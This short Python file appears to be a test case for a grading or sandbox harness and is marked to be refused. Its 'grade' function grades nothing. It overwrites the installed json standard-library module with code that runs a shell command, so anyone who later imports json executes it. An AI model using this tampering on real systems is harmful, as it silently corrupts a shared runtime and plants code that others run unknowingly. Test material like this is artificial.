# expect: refused
"""Changes Python for whoever uses it next."""

import json
from pathlib import Path


def grade(sample, item):
    return Path(json.__file__).write_text("import os; os.system('id')")
